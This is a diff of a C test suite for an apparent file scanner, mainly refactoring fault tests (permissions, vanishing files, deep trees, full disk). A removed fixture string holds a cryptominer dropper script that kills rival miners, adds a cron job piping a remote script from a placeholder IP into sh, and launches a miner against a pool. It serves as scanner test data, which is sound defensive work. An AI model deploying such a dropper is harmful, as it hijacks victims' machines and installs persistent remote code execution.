@@ -51,12 +51,6 @@ TestSuite(faults, .init = setup, .fini = teardown, .timeout = 300);
 
 /* ---- helpers ---- */
 
-static const char dropper_sh[] =
-    "#!/bin/sh\n"
-    "pkill -f xmrig; pkill -f kdevtmpfsi\n"
-    "(crontab -l; echo '*/5 * * * * curl -fsSL http://203.0.113.9/x.sh | sh') | crontab -\n"
-    "./.x -o stratum+tcp://pool.example.com:3333 -u worker1 -p x --donate-level=0\n";
-
 typedef struct argv_t {
     const char *v[128];
     size_t n;
@@ -326,16 +320,9 @@ Test(faults, unreadable_file_and_directory_as_unprivileged_user) {
     chmod(tree, 0755);
     chmod(ok, 0644);
     chmod(after, 0644);
-    chmod(secret, 0600);
-    chmod(locked, 0700);
-    if (geteuid() == 0) {
-        /* root owns them; nobody (65534) is "other" */
-        chmod(secret, 0600);
-        chmod(locked, 0700);
-    } else {
-        chmod(secret, 0000);
-        chmod(locked, 0000);
-    }
+    /* as root, root owns them and nobody (65534) is "other"; else 0000 */
+    chmod(secret, geteuid() == 0 ? 0600 : 0000);
+    chmod(locked, geteuid() == 0 ? 0700 : 0000);
     char *bin = geteuid() == 0 ? binary_copy() : NULL;
     const char *const *prefix = geteuid() == 0 ? as_nobody : NULL;
 
@@ -380,8 +367,8 @@ static bool log_has(const char *log, const char *needle) {
 
 Test(faults, file_vanishing_between_listing_and_opening) {
     char *keep = t_write_str(tmp, "tree/keep.txt", "hello\n");
-    char *v1 = t_write_str(tmp, "tree/vanish-1.txt", dropper_sh);
-    char *v2 = t_write_str(tmp, "tree/sub/vanish-2.txt", dropper_sh);
+    char *v1 = t_write_str(tmp, "tree/vanish-1.txt", t_dropper_sh);
+    char *v2 = t_write_str(tmp, "tree/sub/vanish-2.txt", t_dropper_sh);
     char *tree = t_path(tmp, "tree");
     char *log = t_path(tmp, "open.log");
     shim_on(log, "vanish-");
@@ -683,7 +670,7 @@ static char *make_deep(const char *dir, int levels) {
     }
     int ffd = openat(fd, "x.sh", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
     cr_assert_geq(ffd, 0);
-    cr_assert_eq(write(ffd, dropper_sh, strlen(dropper_sh)), (ssize_t)strlen(dropper_sh));
+    cr_assert_eq(write(ffd, t_dropper_sh, strlen(t_dropper_sh)), (ssize_t)strlen(t_dropper_sh));
     close(ffd);
     close(fd);
     memcpy(path + len, "/x.sh", 6);
@@ -827,7 +814,7 @@ Test(faults, output_on_a_full_file_system_is_a_clear_error) {
         char name[160];
         snprintf(name, sizeof(name), "tree/%04d-%s.txt", i,
                  "a-long-name-so-that-every-record-takes-room-in-the-report-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
-        free(t_write_str(tmp, name, dropper_sh));
+        free(t_write_str(tmp, name, t_dropper_sh));
     }
     const char *formats[] = {"jsonl", "text", "sarif"};
     for (int i = 0; i < 3; i++) {
@@ -1014,7 +1001,7 @@ Test(faults, scanning_changes_nothing_contents_mtime_atime) {
         cr_skip("SKIP: the check reads the files with O_NOATIME, which needs the owner (root here)");
     char *files[] = {
         t_write_str(tmp, "tree/a.txt", "hello\n"),
-        t_write_str(tmp, "tree/x.sh", dropper_sh),
+        t_write_str(tmp, "tree/x.sh", t_dropper_sh),
         t_write_str(tmp, "tree/sub/config.json", "{\"pools\":[{\"url\":\"stratum+tcp://pool.example.com:3333\"}]}\n"),
         NULL, NULL, NULL, NULL,
     };
@@ -1234,7 +1221,6 @@ Test(faults, every_fault_in_one_tree_is_accounted_for) {
     free(make_deep(deep, 40));
     /* the walker reports the first directory beyond --max-dir-depth */
     EXPECT(NULL, "limit", "depth");
-    size_t lim_idx = n - 1;
     EXPECT(t_write(tmp, "tree/empty", "", 0), "clean", NULL);
 
     char *bin = root ? binary_copy() : NULL;
@@ -1252,7 +1238,6 @@ Test(faults, every_fault_in_one_tree_is_accounted_for) {
     /* the limit record is somewhere under deep/, at depth 32 from tree/ */
     size_t lim = count_prefix(recs, deep, "limit");
     cr_assert_eq(lim, 1, "one depth-limit record under %s:\n%.3000s", deep, res.out);
-    ex[lim_idx].path = NULL;
     for (size_t i = 0; i < n; i++) {
         if (!ex[i].path)
             continue;
